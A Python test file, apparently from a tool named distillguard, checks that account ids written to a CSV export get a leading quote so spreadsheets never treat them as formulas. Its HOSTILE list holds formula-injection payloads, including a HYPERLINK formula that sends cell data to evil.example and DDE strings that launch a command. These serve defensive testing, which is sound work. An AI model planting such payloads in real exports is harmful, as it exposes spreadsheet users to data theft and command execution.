"""accounts.csv never carries a spreadsheet formula: client-controlled account ids that start like
one (``=``, ``+``, ``-``, ``@``, tab, carriage return) get a leading ``'`` (OWASP)."""

from __future__ import annotations

import csv
from pathlib import Path

from distillguard.campaigns.model import AccountVerdict, Detections

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_like_account_ids_are_neutralised(tmp_path: Path) -> None:
    accounts = [AccountVerdict(v, 0.1, False) for v in HOSTILE]
    accounts.append(AccountVerdict("acct-plain", 0.2, False))
    Detections(accounts=accounts, campaigns=[], summary={}).write(tmp_path)
    with (tmp_path / "accounts.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = [r["account_id"] for r in rows]
    assert cells[:-1] == ["'" + v for v in HOSTILE]
    assert cells[-1] == "acct-plain"  # ordinary ids are untouched
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r.values())
